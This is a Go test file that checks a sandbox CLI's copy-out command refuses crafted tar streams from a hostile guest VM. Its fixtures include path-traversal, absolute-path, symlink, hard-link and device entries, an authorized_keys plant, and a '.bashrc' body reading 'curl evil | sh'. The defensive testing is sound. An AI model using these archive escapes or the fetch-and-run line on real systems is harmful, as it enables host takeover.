package cli_test

import (
	"archive/tar"
	"bytes"
	"encoding/json"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/smx-dev/smx/internal/testutil"
)

type tarEntry struct {
	name, link, body string
	typ              byte
	mode             int64
}

func tarBytes(t *testing.T, entries ...tarEntry) []byte {
	t.Helper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, e := range entries {
		if e.mode == 0 {
			e.mode = 0o644
		}
		h := &tar.Header{Name: e.name, Linkname: e.link, Typeflag: e.typ, Mode: e.mode}
		if e.typ == tar.TypeReg {
			h.Size = int64(len(e.body))
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		tw.Write([]byte(e.body))
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// hostTree lists every path under dir with its mode and, for files and
// symlinks, content or target.
func hostTree(t *testing.T, dir string) string {
	t.Helper()
	var lines []string
	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		fi, _ := d.Info()
		l := p + " " + fi.Mode().String()
		switch {
		case fi.Mode().IsRegular():
			b, _ := os.ReadFile(p)
			l += " " + string(b)
		case fi.Mode()&fs.ModeSymlink != 0:
			target, _ := os.Readlink(p)
			l += " -> " + target
		}
		lines = append(lines, l)
		return nil
	})
	sort.Strings(lines)
	return strings.Join(lines, "\n")
}

// TestCpOutHostileGuest: `smx agent cp NAME:/work/out.txt DIR/` against a
// guest that answers with more than out.txt. Each stream is refused as a
// whole: nothing appears or changes beside the destination (no
// ~/.bashrc, no ~/.ssh/authorized_keys, no leftovers), the user reads why
// in one line, and each refusal is a copy.refused record. What a real
// guest can do without lying (set-id bits, a FIFO, a directory's
// contents into an existing folder) is handled by the same rules.
func TestCpOutHostileGuest(t *testing.T) {
	testutil.RequireQEMU(t)
	t.Setenv("SMX_AGENT", testutil.HostileAgent(t))
	v := startSandbox(t, "cp-hostile")
	if out, err := v.sh("mkdir -p /work && echo guest-file > /work/out.txt"); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	file := tarEntry{name: "out.txt", typ: tar.TypeReg, body: "guest-file\n"}
	cases := map[string][]tarEntry{
		"bashrc beside":     {file, {name: ".bashrc", typ: tar.TypeReg, body: "curl evil | sh\n"}},
		"authorized_keys":   {file, {name: ".ssh/", typ: tar.TypeDir, mode: 0o700}, {name: ".ssh/authorized_keys", typ: tar.TypeReg, body: "ssh-ed25519 AAAA evil\n"}},
		"dotdot":            {file, {name: "../escaped", typ: tar.TypeReg, body: "x"}},
		"absolute":          {file, {name: "/tmp/cp-hostile-abs", typ: tar.TypeReg, body: "x"}},
		"symlink then file": {{name: "out.txt/", typ: tar.TypeDir}, {name: "out.txt/l", typ: tar.TypeSymlink, link: "../.."}, {name: "out.txt/l/escaped", typ: tar.TypeReg, body: "x"}},
		"hard link outside": {{name: "out.txt/", typ: tar.TypeDir}, {name: "out.txt/h", typ: tar.TypeLink, link: "../keep"}},
		"device":            {{name: "out.txt/", typ: tar.TypeDir}, {name: "out.txt/mem", typ: tar.TypeChar}},
		"replace twice":     {file, {name: "out.txt", typ: tar.TypeSymlink, link: "/root/.bashrc"}},
	}
	names := make([]string, 0, len(cases))
	for n := range cases {
		names = append(names, n)
	}
	sort.Strings(names)
	stage := t.TempDir()
	for _, name := range names {
		t.Run(strings.ReplaceAll(name, " ", "_"), func(t *testing.T) {
			crafted := filepath.Join(stage, "crafted.tar")
			if err := os.WriteFile(crafted, tarBytes(t, cases[name]...), 0o644); err != nil {
				t.Fatal(err)
			}
			if out, err := v.smx("agent", "cp", crafted, v.name+":/work/out.txt.hostile-tar"); err != nil {
				t.Fatalf("cp in: %v\n%s", err, out)
			}
			parent := t.TempDir()
			home := filepath.Join(parent, "home")
			os.MkdirAll(filepath.Join(home, ".ssh"), 0o700)
			os.WriteFile(filepath.Join(home, ".bashrc"), []byte("mine\n"), 0o644)
			os.WriteFile(filepath.Join(parent, "keep"), []byte("keep\n"), 0o644)
			before := hostTree(t, parent)
			out, err := v.smx("agent", "cp", v.name+":/work/out.txt", home+"/")
			if err == nil {
				t.Fatalf("the copy was accepted:\n%s\n%s", out, hostTree(t, parent))
			}
			if !strings.Contains(out, "refused the copy of out.txt") || strings.Count(strings.TrimSpace(out), "\n") > 0 {
				t.Errorf("want one line saying the copy was refused, got:\n%s", out)
			}
			if after := hostTree(t, parent); after != before {
				t.Fatalf("the host changed:\nbefore:\n%s\nafter:\n%s", before, after)
			}
			if _, err := os.Lstat("/tmp/cp-hostile-abs"); err == nil {
				os.Remove("/tmp/cp-hostile-abs")
				t.Fatal("/tmp/cp-hostile-abs written")
			}
		})
	}

	// The stream handed on (to stdout here, to API clients by GET
	// .../files) passes the same rules: it ends before the first entry
	// outside out.txt.
	crafted := filepath.Join(stage, "crafted.tar")
	os.WriteFile(crafted, tarBytes(t, cases["bashrc beside"]...), 0o644)
	if out, err := v.smx("agent", "cp", crafted, v.name+":/work/out.txt.hostile-tar"); err != nil {
		t.Fatalf("cp in: %v\n%s", err, out)
	}
	var stdout, stderr bytes.Buffer
	cmd := v.cmd("agent", "cp", v.name+":/work/out.txt", "-")
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err == nil || !strings.Contains(stderr.String(), "refused") {
		t.Errorf("cp to stdout: %v\n%s", err, stderr.String())
	}
	tr := tar.NewReader(&stdout)
	var passed []string
	for h, err := tr.Next(); err == nil; h, err = tr.Next() {
		passed = append(passed, h.Name)
	}
	if strings.Join(passed, " ") != "out.txt" {
		t.Errorf("stdout held %q, want only out.txt", passed)
	}

	var refused int
	for _, r := range v.refusals(t, "copy.refused") {
		if r.f("path") == "/work/out.txt" && r.f("rule") == "builtin: copy out" && strings.Contains(r.f("reason"), "refused") {
			refused++
		}
	}
	if refused != len(cases)+1 {
		t.Errorf("%d copy.refused records for /work/out.txt, want %d", refused, len(cases)+1)
	}

	// The same sandbox, answering honestly (no crafted stream).
	v.sh("rm -f /work/out.txt.hostile-tar")
	if out, err := v.sh(`mkdir -p /work/t/sub && echo a > /work/t/sub/a && ln /work/t/sub/a /work/t/hard &&
		ln -s sub/a /work/t/rel && ln -s /etc/passwd /work/t/abs &&
		echo s > /work/t/suid && chmod 4755 /work/t/suid && chmod 2755 /work/t/sub && chmod 1777 /work/t`); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	dst := t.TempDir()
	if out, err := v.smx("agent", "cp", v.name+":/work/t", dst+"/"); err != nil {
		t.Fatalf("honest copy: %v\n%s", err, out)
	}
	got := hostTree(t, filepath.Join(dst, "t"))
	for _, want := range []string{
		filepath.Join(dst, "t") + " drwxrwxrwx",     // sticky dropped
		filepath.Join(dst, "t/sub") + " drwxr-xr-x", // set-group-ID dropped
		filepath.Join(dst, "t/suid") + " -rwxr-xr-x s",
		filepath.Join(dst, "t/abs") + " Lrwxrwxrwx -> /etc/passwd", // written as is, never followed
		filepath.Join(dst, "t/rel") + " Lrwxrwxrwx -> sub/a",
	} {
		if !strings.Contains(got+"\n", want+"\n") {
			t.Errorf("missing %q in:\n%s", want, got)
		}
	}
	a, _ := os.Stat(filepath.Join(dst, "t/hard"))
	b, _ := os.Stat(filepath.Join(dst, "t/sub/a"))
	if !os.SameFile(a, b) {
		t.Error("the hard link within the tree was not kept")
	}

	// A FIFO is refused; a directory's contents go only to a new path.
	v.sh("mkdir -p /work/p && mkfifo /work/p/fifo")
	if out, err := v.smx("agent", "cp", v.name+":/work/p", dst+"/"); err == nil || !strings.Contains(out, "FIFO") {
		t.Errorf("FIFO copied: %v\n%s", err, out)
	}
	if _, err := os.Lstat(filepath.Join(dst, "p")); err == nil {
		t.Error("a refused copy left p behind")
	}
	home := t.TempDir()
	if out, err := v.smx("agent", "cp", v.name+":/work/t/.", home); err == nil || !strings.Contains(out, "new path") {
		t.Errorf("contents into an existing directory: %v\n%s", err, out)
	}
	if ents, _ := os.ReadDir(home); len(ents) != 0 {
		t.Errorf("left in %s: %v", home, ents)
	}
	if out, err := v.smx("agent", "cp", v.name+":/work/t/.", filepath.Join(home, "new")); err != nil {
		t.Errorf("contents to a new path: %v\n%s", err, out)
	} else if b, _ := os.ReadFile(filepath.Join(home, "new", "sub", "a")); string(b) != "a\n" {
		t.Errorf("new/sub/a = %q", b)
	}
}

// refusals reads the records of kind of the sandbox's log.
func (v *vmEnv) refusals(t *testing.T, kind string) []logRecord {
	t.Helper()
	out, err := v.cmd("agent", "logs", v.name, "--json", "--refusals").Output()
	if err != nil {
		t.Fatalf("logs: %v", err)
	}
	var recs []logRecord
	for _, l := range strings.Split(string(out), "\n") {
		var r logRecord
		if json.Unmarshal([]byte(l), &r) == nil && r.Kind == kind {
			recs = append(recs, r)
		}
	}
	return recs
}
